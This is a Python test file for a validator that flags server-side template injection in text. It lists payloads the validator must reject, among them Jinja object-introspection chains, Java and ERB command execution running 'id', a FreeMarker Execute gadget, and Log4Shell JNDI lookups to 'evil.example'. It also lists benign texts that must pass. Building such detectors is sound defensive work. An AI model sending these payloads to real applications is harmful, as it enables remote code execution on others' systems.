"""template-injection: a text that a template engine leaves as it is."""

from __future__ import annotations

import pytest

from railguard import UNSET
from railguard.testing.laws import check_validator
from railguard_validators.template_injection import template_injection


def test_it_keeps_the_laws():
    check_validator(
        template_injection(),
        passing=["", "{{", "{{ a }}", "${", "{{(", "{%", "<%", "${a", "{{ x y"],
        failing=["{{7*7}}", "${7*7}", "<%= a %>", "{% for x in y %}", "{{ f() }}", "${jndi:ldap://a}"],
    )
    check_validator(
        template_injection(strict=True), passing=["", "$5 {x} 50%"], failing=["{{a}}", "${a}", "$name", "<% "]
    )


@pytest.mark.parametrize(
    "text",
    [
        "{{7*7}}",
        "{{ '7'*7 }}",
        "${7*7}",
        "#{7*7}",
        "*{7*7}",
        "@(1+2)",
        "{{config}}",
        "{{ config.items() }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ request|attr('application') }}",
        "{{ lipsum.__globals__ }}",
        "{{ url_for('x') }}",
        "{{ self }}",
        "{% import os %}",
        "{%- for x in y -%}",
        "<%= system('id') %>",
        "<% code %>",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example}",
        "<#assign ex='freemarker.template.utility.Execute'?new()>",
        "#set($x = 1) #set('$y')",
        "{php}echo 1;{/php}",
        "<?php echo 1; ?>",
        "{{constructor.constructor('alert(1)')()}}",
        "[[${user.name}]]",
    ],
)
def test_what_a_template_would_run_fails(text):
    result = template_injection().run(text)
    assert result is not None
    assert result.fix is UNSET


@pytest.mark.parametrize(
    "text",
    [
        "Dear {{ name }}",
        "{{user.name}} and ${HOME}",
        "50 % off, {a} {b}",
        "f(x) = {x | x > 0}",
        "{ 'a': { 'b': 1 } }",
        "{{a_1}}^{2*3}",
        "The set {1, 2} * {3}",
        "#{hash} of ${amount}",
        "Pay $5 (or 7*7 = 49)",
        "{% discount %}",
        "mail@example.org (1)",
        "5 <% of people",
    ],
)
def test_ordinary_texts_and_plain_places_pass(text):
    assert template_injection().run(text) is None


def test_strictly_every_delimiter_fails():
    assert template_injection(strict=True).run("Pay $5, {x}") is None
    result = template_injection(strict=True).run("Dear {{ name }}")
    assert (result.message, result.spans) == ('The text must have no delimiter of templates; it has "{{".', [(5, 7)])


def test_a_failure_quotes_and_marks_what_it_found():
    result = template_injection().run("Hi {{7*7}}")
    assert result.message == 'The text must do nothing in a template; it has an expression: "{{7*7".'
    assert result.spans == [(3, 8)]


def test_it_reads_as_words_for_a_model():
    assert template_injection().describe() == "without expressions of a template"
    assert template_injection(strict=True).describe() == "without delimiters of templates"
